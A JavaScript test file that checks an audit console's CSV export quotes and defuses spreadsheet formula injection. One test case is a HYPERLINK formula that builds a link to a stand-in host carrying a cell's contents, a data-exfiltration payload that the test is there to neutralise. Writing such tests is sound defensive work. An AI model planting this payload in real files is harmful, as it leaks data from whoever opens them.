// csv_cell.test.mjs - the console's audit CSV export defuses every cell a
// spreadsheet would run as a formula. Audit rows carry text an anonymous
// client chooses (the name typed at sign-in is the row's target), so a
// cell starting with = + - @, or with a tab or carriage return before them
// (OWASP's list: spreadsheets skip those and still see the formula), must
// come out starting with a quote. Runs web/audit.js's own csvCell.
import { readFileSync } from 'node:fs';
import assert from 'node:assert/strict';

const src = readFileSync(new URL('../../web/audit.js', import.meta.url), 'utf8');
const m = src.match(/function csvCell\(v\) \{[\s\S]*?\n\}/);
assert.ok(m, 'csvCell not found in web/audit.js');
const csvCell = new Function(`${m[0]}; return csvCell;`)();

const cases = [
  ['=HYPERLINK("http://x/?"&A1,"y")', true], ['+1+1', true], ['-1+1', true], ['@SUM(A1)', true],
  ['\t=1+1', true], ['\r=1+1', true], ['alice', false], ['', false], [null, false], [42, false],
];
for (const [v, defused] of cases) {
  const c = csvCell(v);
  assert.ok(c.startsWith('"') && c.endsWith('"'), `not quoted: ${JSON.stringify(c)}`);
  const inner = c.slice(1, -1);
  assert.equal(inner.startsWith("'"), defused, `cell ${JSON.stringify(v)} -> ${JSON.stringify(c)}`);
}
assert.equal(csvCell('say "hi"'), '"say ""hi"""');
console.log(`csv_cell: ${cases.length + 1} cells checked`);
